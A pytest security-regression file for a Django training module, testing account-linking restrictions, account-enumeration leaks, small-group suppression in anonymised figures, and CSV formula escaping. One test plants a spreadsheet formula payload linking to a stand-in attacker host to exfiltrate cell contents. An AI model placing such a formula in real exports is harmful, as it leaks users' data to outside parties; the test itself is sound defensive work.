"""Security review of the training module (docs/security-review.md, H5-2 to H5-4).

Each test failed before its fix: a manager could tie a trainee file to any account
of the platform, and anonymised figures of a group of one or two trainees told who
had left, at which level and how their repairs went.
"""

import datetime

import pytest
from django.urls import reverse

from repairlocale.accounts.tests.factories import UserFactory
from repairlocale.network.models import Membership
from repairlocale.network.tests.factories import MembershipFactory
from repairlocale.training.selectors import MIN_GROUP_SIZE
from repairlocale.training.tests.factories import AssessmentFactory, TraineeFactory

pytestmark = pytest.mark.django_db


def _trainee_post(**extra):
    return {
        "first_name": "Jonas",
        "last_name": "Verstraete",
        "programme": "IBO",
        "start_date": "2026-01-05",
        "status": "in_training",
        **extra,
    }


# --- H5-2: the trainee's login is an account the employer may link ----------------


def test_a_manager_cannot_link_a_trainee_to_a_coordinators_account(client, personas):
    personas.coordinator.email = "coordinator@example.org"
    personas.coordinator.save()
    client.force_login(personas.manager)
    response = client.post(
        reverse("training:trainee_create", args=[personas.rad.pk]),
        _trainee_post(login_email="coordinator@example.org"),
    )
    assert response.status_code == 200
    assert response.context["form"].has_error("login_email")
    assert not personas.rad.trainees.filter(user=personas.coordinator).exists()


def test_a_manager_cannot_link_a_member_of_another_organisation(client, personas):
    personas.outsider.email = "outsider@example.org"
    personas.outsider.save()
    trainee = TraineeFactory(organisation=personas.rad)
    client.force_login(personas.manager)
    response = client.post(
        reverse("training:trainee_edit", args=[trainee.pk]),
        _trainee_post(login_email="outsider@example.org"),
    )
    assert response.status_code == 200
    trainee.refresh_from_db()
    assert trainee.user is None
    # The trainee's data stays out of the outsider's reach.
    client.force_login(personas.outsider)
    detail = client.get(reverse("training:trainee_detail", args=[trainee.pk]))
    assert detail.status_code == 404


def test_the_answer_does_not_tell_whether_an_account_exists(client, personas):
    personas.outsider.email = "outsider@example.org"
    personas.outsider.save()
    client.force_login(personas.manager)
    url = reverse("training:trainee_create", args=[personas.rad.pk])
    taken = client.post(url, _trainee_post(login_email="outsider@example.org"))
    unknown = client.post(url, _trainee_post(login_email="nobody@example.org"))
    assert (
        taken.context["form"].errors["login_email"]
        == unknown.context["form"].errors["login_email"]
    )


def test_an_account_without_other_memberships_can_still_be_linked(client, personas):
    own = UserFactory(username="jonas", email="jonas@example.org")
    colleague = UserFactory(username="lotte", email="lotte@example.org")
    MembershipFactory(
        user=colleague, organisation=personas.rad, role=Membership.Role.EDITOR
    )
    client.force_login(personas.manager)
    url = reverse("training:trainee_create", args=[personas.rad.pk])
    for email, user in [("jonas@example.org", own), ("lotte@example.org", colleague)]:
        response = client.post(url, _trainee_post(login_email=email))
        assert response.status_code == 302, response.context["form"].errors
        assert personas.rad.trainees.filter(user=user).exists()


# --- H5-3: small groups in the anonymised overview -----------------------------


@pytest.fixture
def one_leaver(personas):
    """Hageland's only trainee left for a regular job; 't Rad has a full group."""
    leaver = TraineeFactory(
        organisation=personas.other,
        first_name="Elif",
        status="moved_on",
        outflow_kind="regular_job",
        outflow_date=datetime.date(2026, 3, 1),
    )
    AssessmentFactory(trainee=leaver, level=1)
    TraineeFactory.create_batch(MIN_GROUP_SIZE, organisation=personas.rad)
    return leaver


def _row(rows, organisation):
    [row] = [r for r in rows if r["organisation"] == organisation]
    return row


def test_the_coordinator_sees_no_breakdown_of_a_group_of_one(
    client, personas, one_leaver
):
    client.force_login(personas.coordinator)
    response = client.get(reverse("training:overview"))
    hageland = _row(response.context["by_organisation"], personas.other)
    assert hageland["suppressed"]
    assert hageland["trainees"] == 1
    assert set(hageland["by_status"].values()) == {None}
    assert set(hageland["outflow"].values()) == {None}
    assert hageland["average_level"] is None
    assert hageland["assessed_trainees"] is None
    # A group large enough keeps its figures.
    rad = _row(response.context["by_organisation"], personas.rad)
    assert not rad["suppressed"] and rad["by_status"]["in_training"] == MIN_GROUP_SIZE


def test_a_pilot_region_with_one_trainee_shows_no_breakdown(
    client, personas, one_leaver
):
    client.force_login(personas.coordinator)
    response = client.get(reverse("training:overview"))
    by_region = {r["region"]: r for r in response.context["by_region"]}
    assert by_region["vlaams_brabant"]["suppressed"]
    assert by_region["vlaams_brabant"]["outflow"]["regular_job"] is None
    assert not by_region["brugge"]["suppressed"]


def test_the_csv_holds_no_breakdown_of_a_small_group(client, personas, one_leaver):
    client.force_login(personas.coordinator)
    lines = client.get(reverse("training:overview_csv")).content.decode().splitlines()
    [hageland] = [line for line in lines if line.startswith("Kringwinkel Hageland")]
    cells = hageland.split(",")
    assert cells[1] == "1"
    assert set(cells[2:]) == {""}


def test_the_manager_of_a_small_group_keeps_its_figures(client, personas):
    TraineeFactory(
        organisation=personas.other,
        status="moved_on",
        outflow_kind="regular_job",
        outflow_date=datetime.date(2026, 3, 1),
    )
    client.force_login(personas.outsider)  # manages Kringwinkel Hageland
    response = client.get(reverse("training:overview"))
    hageland = _row(response.context["by_organisation"], personas.other)
    assert not hageland["suppressed"]
    assert hageland["outflow"]["regular_job"] == 1


def test_a_dashboard_shows_no_breakdown_of_a_small_group(client, personas):
    leaver = TraineeFactory(
        organisation=personas.rad,
        status="moved_on",
        outflow_kind="regular_job",
        outflow_date=datetime.date(2026, 2, 1),
    )
    AssessmentFactory(trainee=leaver, level=1, assessed_on=datetime.date(2026, 2, 1))
    client.force_login(personas.viewer)  # a viewer may open no trainee page
    response = client.get(
        reverse("dashboards:organisation", args=[personas.rad.pk]),
        {"date_from": "2026-01-01", "date_to": "2026-03-31"},
    )
    [panel] = response.context["panels"]
    assert panel["training"]["trainees"] == 1
    assert panel["training"]["suppressed"]
    assert panel["training"]["by_status"]["moved_on"] is None
    assert panel["training"]["assessed_trainees"] is None


# --- H5-4: spreadsheet formulas in the overview CSV -------------------------------


def test_an_organisation_name_cannot_become_a_formula_in_the_csv(client, personas):
    personas.other.name = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
    personas.other.save()
    TraineeFactory.create_batch(MIN_GROUP_SIZE, organisation=personas.other)
    client.force_login(personas.coordinator)
    content = client.get(reverse("training:overview_csv")).content.decode()
    assert "\n=HYPERLINK" not in content and "\r\n=HYPERLINK" not in content
    assert "'=HYPERLINK" in content


def test_the_form_does_not_tell_that_someone_is_a_trainee_elsewhere(client, personas):
    elsewhere = UserFactory(username="elif", email="elif@example.org")
    TraineeFactory(organisation=personas.other, user=elsewhere)
    client.force_login(personas.manager)
    url = reverse("training:trainee_create", args=[personas.rad.pk])
    linked = client.post(url, _trainee_post(login_email="elif@example.org"))
    unknown = client.post(url, _trainee_post(login_email="nobody@example.org"))
    assert (
        linked.context["form"].errors["login_email"]
        == unknown.context["form"].errors["login_email"]
    )
